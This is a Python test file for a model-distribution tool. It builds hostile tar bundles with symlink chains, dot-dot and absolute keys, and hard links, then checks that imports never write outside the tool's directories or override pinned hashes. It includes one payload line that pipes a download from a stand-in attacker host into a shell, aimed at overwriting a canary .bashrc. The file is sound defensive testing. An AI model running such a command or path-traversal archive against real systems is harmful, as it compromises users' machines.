"""Hostile bundles and hostile mirror directories: nothing lands outside zoo's directories,
and a bundle never overrides the user's pins."""

from __future__ import annotations

import hashlib
import io
import json
import os
import stat
import subprocess
import tarfile
from pathlib import Path

import pytest

from conftest import MODEL, TARBALL_PATH, Zoo, clean_env, model_entry
from httpserver import FileServer
from tarballs import make_zoo_tarball, sha256_of
from zoo.sources import mirror_relative

INDEX = "zoo-mirror.json"
CANARY = b"# the user's own .bashrc\n"
PAYLOAD = b"curl evil.example | sh\n"


@pytest.fixture
def good_bundle(zoo: Zoo, tmp_path: Path) -> Path:
    assert zoo.run("fetch", MODEL).returncode == 0
    bundle = tmp_path / "good.tar"
    created = zoo.run("bundle", "create", str(bundle), MODEL)
    assert created.returncode == 0, created.stderr
    return bundle


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A file outside every directory zoo owns, where the attacks aim."""
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_bytes(CANARY)
    return path


def hostile(good: Path, target: Path, listed: dict[str, bytes], members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
    """``good`` with ``members`` appended and ``listed`` keys added to its index (with
    the sha256 and size of the given bytes), as an attacker would build it."""
    with tarfile.open(good) as original, tarfile.open(target, "w") as copy:
        for member in original.getmembers():
            data = original.extractfile(member).read()  # type: ignore[union-attr]
            if member.name == INDEX:
                index = json.loads(data)
                for key, content in listed.items():
                    index["files"][key] = {"url": "https://example.com/x", "sha256": hashlib.sha256(content).hexdigest(), "size": len(content)}
                data = json.dumps(index).encode()
                member.size = len(data)
            copy.addfile(member, io.BytesIO(data))
        for member, data in members:
            member.size = len(data) if member.isfile() else 0
            copy.addfile(member, io.BytesIO(data) if member.isfile() else None)
    return target


def directory(name: str) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.mode = tarfile.DIRTYPE, 0o755
    return info, b""


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, b""


def regular(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), data


def import_into(zoo: Zoo, bundle: Path, mirror: Path) -> subprocess.CompletedProcess[str]:
    return zoo.run("bundle", "import", str(bundle), "--into", str(mirror))


def mirror_files(mirror: Path) -> list[str]:
    return sorted(str(p.relative_to(mirror)) for p in mirror.rglob("*") if p.is_file() and not p.name.startswith(".zoo-")) if mirror.exists() else []


def test_a_symlink_and_a_dotdot_key_cannot_write_outside_the_mirror(zoo: Zoo, good_bundle: Path, canary: Path, tmp_path: Path):
    # In the bundle `s` points 30 directories down, so `s/../../../..` stays inside
    # it on the read side; in the mirror (tmp/a/b/mirror) the same key climbs to tmp/.
    chain = "/".join(f"d{i}" for i in range(1, 31))
    inside = "/".join(f"d{i}" for i in range(1, 27)) + "/home/.bashrc"
    key = "s/../../../../home/.bashrc"
    members = [*(directory("/".join(f"d{i}" for i in range(1, n + 1))) for n in range(1, 31)),
               link("s", chain), directory(inside.rsplit("/", 2)[0] + "/home"), regular(inside, PAYLOAD)]  # fmt: skip
    bundle = hostile(good_bundle, tmp_path / "bad.tar", {inside: PAYLOAD, key: PAYLOAD}, members)
    mirror = tmp_path / "a" / "b" / "mirror"
    result = import_into(zoo, bundle, mirror)
    assert canary.read_bytes() == CANARY
    assert result.returncode == 7, result.stderr
    assert "'s' is a link" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert mirror_files(mirror) == []
    assert [p for p in zoo.leftovers() if not p.startswith("models/")] == []


@pytest.mark.parametrize("kind", ["absolute", "dotdot", "backslash", "empty part"])
def test_an_index_key_that_is_not_a_plain_relative_path_is_refused(zoo: Zoo, good_bundle: Path, canary: Path, tmp_path: Path, kind: str):
    # Each of these passes the read side's checks on the old code: the file it names
    # exists with the listed hash.
    keys = {
        "absolute": (str(canary), CANARY, []),
        "dotdot": ("h/../h2/file", PAYLOAD, [directory("h"), directory("h2"), regular("h2/file", PAYLOAD)]),
        "backslash": ("h2\\file", PAYLOAD, [regular("h2\\file", PAYLOAD)]),
        "empty part": ("h2//file", PAYLOAD, [directory("h2"), regular("h2/file", PAYLOAD)]),
    }
    key, content, members = keys[kind]
    listed = {key: content, **({"h2/file": content} if kind in ("dotdot", "empty part") else {})}
    bundle = hostile(good_bundle, tmp_path / "bad.tar", listed, members)
    mirror = tmp_path / "mirror"
    result = import_into(zoo, bundle, mirror)
    assert result.returncode == 6, result.stderr
    assert f"{bundle}:{INDEX}: {key!r} is not a plain relative host/path key; refused" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert canary.read_bytes() == CANARY
    assert mirror_files(mirror) == []


def test_a_hard_link_member_is_refused(zoo: Zoo, good_bundle: Path, canary: Path, tmp_path: Path, upstream: FileServer):
    archive = mirror_relative(upstream.url_for(TARBALL_PATH))
    with tarfile.open(good_bundle) as tar:
        data = tar.extractfile(archive).read()  # type: ignore[union-attr]
    bundle = hostile(good_bundle, tmp_path / "bad.tar", {"alias.tar.gz": data}, [link("alias.tar.gz", archive, tarfile.LNKTYPE)])
    mirror = tmp_path / "mirror"
    result = import_into(zoo, bundle, mirror)
    assert result.returncode == 7, result.stderr
    assert "link" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert mirror_files(mirror) == []
    assert canary.read_bytes() == CANARY


@pytest.mark.parametrize("command", ["bundle import", "mirror build"])
def test_a_symlink_planted_in_the_mirror_directory_is_not_written_through(zoo: Zoo, good_bundle: Path, upstream: FileServer, tmp_path: Path, command: str):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    mirror = tmp_path / "mirror"
    mirror.mkdir()
    host = mirror_relative(upstream.url_for(TARBALL_PATH)).split("/")[0]
    (mirror / host).symlink_to(elsewhere)
    if command == "bundle import":
        result = import_into(zoo, good_bundle, mirror)
    else:
        result = zoo.run("mirror", "build", str(mirror), MODEL)
    assert list(elsewhere.iterdir()) == []
    assert result.returncode == 6, result.stderr
    assert "leads outside" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert list(elsewhere.iterdir()) == []


def test_a_lock_file_url_that_is_not_a_plain_path_is_refused(zoo: Zoo, upstream: FileServer, tarball: Path, canary: Path, tmp_path: Path):
    # Served as /models/evil.tar.gz once the client drops the dot segments, but
    # stored by the old code at mirror/<host>/../../home/.bashrc, on the canary.
    upstream.add("/home/.bashrc", tarball.read_bytes())
    url = upstream.url + "/../../home/.bashrc"
    lock = tmp_path / "zoo.lock"
    lock.write_text(json.dumps({"format": 1, "models": [{"name": MODEL, "url": url, "sha256": sha256_of(tarball), "size": tarball.stat().st_size}]}))
    mirror = tmp_path / "mirror"
    result = zoo.run("mirror", "build", str(mirror), "--lock", str(lock))
    assert canary.read_bytes() == CANARY
    assert result.returncode == 4, result.stderr
    key = mirror_relative(url)
    assert result.stderr.strip() == f"zoo: error: {lock}: models[0] ({MODEL}): {key!r} is not a plain relative host/path key; refused"
    assert canary.read_bytes() == CANARY
    assert mirror_files(mirror) == []


# -- a bundle adds models, never weakens a pin ---------------------------------------


def pinned_env(zoo: Zoo, upstream: FileServer, home: Path, sha256: str, size: int) -> dict[str, str]:
    """A second machine whose registry pins the test model."""
    env = clean_env(home)
    registry = home / "registry.json"
    home.mkdir(parents=True, exist_ok=True)
    registry.write_text(json.dumps({"format": 1, "models": [model_entry(upstream, sha256=sha256, size=size)]}))
    env["ZOO_REGISTRY"] = str(registry)
    return env


def run(env: dict[str, str], zoo: Zoo, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(zoo.command(*args), env=env, capture_output=True, text=True, timeout=120)


def test_a_bundle_cannot_override_a_registry_pin(zoo: Zoo, upstream: FileServer, tarball: Path, tmp_path: Path):
    # The bundle carries other bytes under the model's name, its entry saying "sha256": null.
    other = make_zoo_tarball(tmp_path / "other", MODEL, size_mb=2.1)
    upstream.add(TARBALL_PATH, other.read_bytes())
    assert zoo.run("fetch", MODEL).returncode == 0
    bundle = tmp_path / "other.tar"
    assert zoo.run("bundle", "create", str(bundle), MODEL).returncode == 0
    env = pinned_env(zoo, upstream, tmp_path / "pinned", sha256_of(tarball), tarball.stat().st_size)
    upstream.stop()
    result = run(env, zoo, "bundle", "import", str(bundle))
    assert result.returncode == 6, result.stderr
    assert f"{MODEL}: the bundle holds other bytes than your registry or lock pins" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    models = tmp_path / "pinned" / "cache" / "models"
    assert not models.exists() or list(models.iterdir()) == []


def test_a_bundle_that_agrees_with_the_pins_imports(zoo: Zoo, upstream: FileServer, tarball: Path, good_bundle: Path, tmp_path: Path):
    env = pinned_env(zoo, upstream, tmp_path / "pinned", sha256_of(tarball), tarball.stat().st_size)
    upstream.stop()
    imported = run(env, zoo, "bundle", "import", str(good_bundle))
    assert imported.returncode == 0, imported.stderr
    offline = run(env, zoo, "fetch", MODEL, "--offline", "--json")
    assert offline.returncode == 0, offline.stderr
    assert json.loads(offline.stdout)["from_cache"]
    assert run(env, zoo, "verify", MODEL).returncode == 0


# -- writing the bundle file ----------------------------------------------------------


def test_bundle_create_writes_through_a_device_and_to_stdout(zoo: Zoo, tmp_path: Path):
    assert zoo.run("fetch", MODEL).returncode == 0
    null = tmp_path / "null"
    os.mknod(null, stat.S_IFCHR | 0o666, os.stat("/dev/null").st_rdev)
    created = zoo.run("bundle", "create", str(null), MODEL)
    assert created.returncode == 0, created.stderr
    assert stat.S_ISCHR(os.lstat(null).st_mode) and null.stat().st_rdev == os.stat("/dev/null").st_rdev
    assert list(tmp_path.glob(".null.*")) == []
    piped = subprocess.run(zoo.command("bundle", "create", "-", MODEL), env=zoo.env, capture_output=True, timeout=120)
    assert piped.returncode == 0, piped.stderr
    with tarfile.open(fileobj=io.BytesIO(piped.stdout)) as tar:
        assert INDEX in tar.getnames() and len(tar.getnames()) == 3
    assert not (tmp_path / "-").exists() and not (Path.cwd() / "-").exists()
